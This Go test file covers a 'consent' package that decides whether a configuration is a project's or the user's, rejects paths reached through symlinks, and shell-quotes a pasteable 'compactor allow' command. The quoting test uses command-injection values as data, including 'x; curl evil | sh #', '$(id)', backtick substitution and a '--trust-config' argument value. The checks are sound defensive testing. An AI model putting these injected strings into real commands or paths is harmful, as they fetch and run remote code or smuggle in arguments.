package consent_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/compactor-mcp/compactor/runtime/app/consent"
)

// The place decides whose a configuration is, however it is named.
func TestThePlaceDecides(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	at := func(parts ...string) string { return filepath.Join(append([]string{top}, parts...)...) }
	for _, dir := range []string{
		"config/compactor", "clone/.git", "clone/.compactor", "clone/conf", "clone/a/b/.compactor", "tree/conf", "own/conf", "home/.compactor",
	} {
		if err := os.MkdirAll(at(dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(at("worktree", "conf"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(at("worktree", ".git"), []byte("gitdir: elsewhere\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for link, to := range map[string]string{"linked": "clone", "own/link": "../clone/conf"} {
		if err := os.Symlink(filepath.FromSlash(to), at(link)); err != nil {
			t.Skip("no links here")
		}
	}
	cases := []struct {
		name, work, flag string
		roots            []string
		project          string // "" for the user's own
	}{
		{name: "found", work: "clone", project: "clone"},
		{name: "in a directory of its repository", work: "clone/a/b", project: "clone/a/b"},
		{name: "named", work: "own", flag: "clone/.compactor", project: "clone"},
		{name: "named with a slash", work: "own", flag: "clone/.compactor/", project: "clone"},
		{name: "by another name in a repository", work: "own", flag: "clone/conf", project: "clone"},
		{name: "by way of a link", work: "own", flag: "linked/conf", project: "clone"},
		{name: "in a worktree", work: "own", flag: "worktree/conf", project: "worktree"},
		{name: "below the working directory", work: "tree", flag: "tree/conf", project: "tree"},
		{name: "below a root", work: "own", flag: "tree/conf", roots: []string{"tree"}, project: "tree"},
		{name: "in a directory that holds the user's own", work: ".", flag: "own/conf"},
		{name: "elsewhere", work: "clone", flag: "own/conf"},
		{name: "at home", work: "home", project: "home"},
		{name: "the user's own", work: "config", flag: "config/compactor"},
	}
	for _, c := range cases {
		q := consent.Query{Work: at(c.work), User: at("config")}
		if c.flag != "" {
			q.Flag = top + "/" + c.flag
		}
		for _, r := range c.roots {
			q.Roots = append(q.Roots, at(r))
		}
		want := ""
		if c.project != "" {
			want = at(c.project)
		}
		if p, err := consent.Find(q); err != nil || p.Project != want {
			t.Errorf("%s: of %q, want %q (%v)", c.name, p.Project, want, err)
		}
	}
	for _, flag := range []string{"own/link", "own/link/", "own/link//", "own/./link/."} {
		if p, err := consent.Find(consent.Query{Work: at("own"), User: at("config"), Flag: top + "/" + flag}); err == nil || !strings.Contains(err.Error(), "is a link") {
			t.Errorf("%s was taken through a link: %+v, %v", flag, p, err)
		}
	}
}

// A directory is shown as a person would name it from where he is.
func TestShown(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", filepath.Join(top, "home"))
	t.Setenv("USERPROFILE", filepath.Join(top, "home"))
	for _, c := range []struct{ work, dir, want string }{
		{"home/src/project", "home/.config/compactor", "~/.config/compactor"},
		{"home/src/project", "home/src/project/.compactor", ".compactor"},
		{"home/src/project", "home/src/other", "~/src/other"},
		{"elsewhere/a", "elsewhere/b", "../b"},
		{"home", "home/.config/compactor", ".config/compactor"},
		{"clone", "clone/~/.compactor", "./~/.compactor"},
	} {
		if got := consent.Own(filepath.Join(top, filepath.FromSlash(c.work)), filepath.Join(top, filepath.FromSlash(c.dir))).Display; got != c.want {
			t.Errorf("%s from %s: %q, want %q", c.dir, c.work, got, c.want)
		}
	}
}

func TestTheWayOutCanBePasted(t *testing.T) {
	for display, want := range map[string]string{
		".compactor":                  "compactor allow",
		"../x/.compactor":             "compactor allow ../x/.compactor",
		"my work/.compactor":          "compactor allow 'my work/.compactor'",
		"x; curl evil | sh #":         "compactor allow 'x; curl evil | sh #'",
		"$(id)/.compactor":            "compactor allow '$(id)/.compactor'",
		"it's/.compactor":             `compactor allow 'it'\''s/.compactor'`,
		"--trust-config":              "compactor allow ./--trust-config",
		"~/src/x/.compactor":          "compactor allow ~/src/x/.compactor",
		"~/my work/.compactor":        "compactor allow ~/'my work/.compactor'",
		"./~/.compactor":              "compactor allow './~/.compactor'",
		"x`id`/.compactor":            "compactor allow 'x`id`/.compactor'",
		"arbeit/größe/été/.compactor": "compactor allow arbeit/größe/été/.compactor",
	} {
		if got := (consent.Place{Display: display}).Command(); got != want {
			t.Errorf("%s: %s, want %s", display, got, want)
		}
	}
}
